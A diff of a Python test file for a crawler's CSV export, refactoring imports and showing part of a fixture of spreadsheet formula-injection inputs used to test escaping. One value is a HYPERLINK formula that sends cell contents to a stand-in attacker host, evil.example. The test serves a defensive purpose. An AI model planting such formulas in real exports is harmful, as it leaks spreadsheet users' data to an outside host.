@@ -13,10 +13,10 @@ import pytest
 import sqlite_utils
 from click.testing import CliRunner, Result
 
-from crawler import storage
 from crawler.cli import cli
-from crawler.export import COLUMNS, csv_cell, export
-from crawler.queries import parse_when
+from crawler.db import connect
+from crawler.db.queries import parse_when
+from crawler.outputs.export import COLUMNS, csv_cell, export
 from tests.conftest import crawl_seed_replicas
 
 
@@ -112,7 +112,7 @@ def test_bad_since_is_a_user_error(crawled: Path) -> None:
 @pytest.fixture
 def hostile_db(tmp_path: Path) -> Iterator[sqlite_utils.Database]:
     """Stories whose fields a spreadsheet would run as formulas, or that break lines."""
-    database = storage.connect(tmp_path / "hostile.db")
+    database = connect(tmp_path / "hostile.db")
     cells = [
         ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1 555", "-2+3 is\nnot = 1"),
         ("@SUM(A1:A9)", "\tTabbed", "\rcarriage"),
